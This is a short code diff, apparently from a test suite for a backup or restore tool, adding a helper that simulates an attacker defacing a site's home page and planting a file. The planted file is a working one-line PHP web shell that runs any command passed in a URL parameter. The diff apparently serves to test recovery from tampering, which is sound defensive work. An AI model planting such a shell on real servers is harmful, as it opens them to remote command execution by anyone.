@@ -133,6 +133,13 @@ def state_scene(
     built.app.transports.close()
 
 
+def deface(docroot: Path) -> None:
+    """Change the site as an attacker would after its backup: its home page rewritten, a
+    web shell planted."""
+    (docroot / "index.html").write_text("<h1>defaced</h1>\n")
+    (docroot / "planted.php").write_text("<?php system($_GET['c']);\n")
+
+
 Member = tuple[tarfile.TarInfo, bytes]
 
 
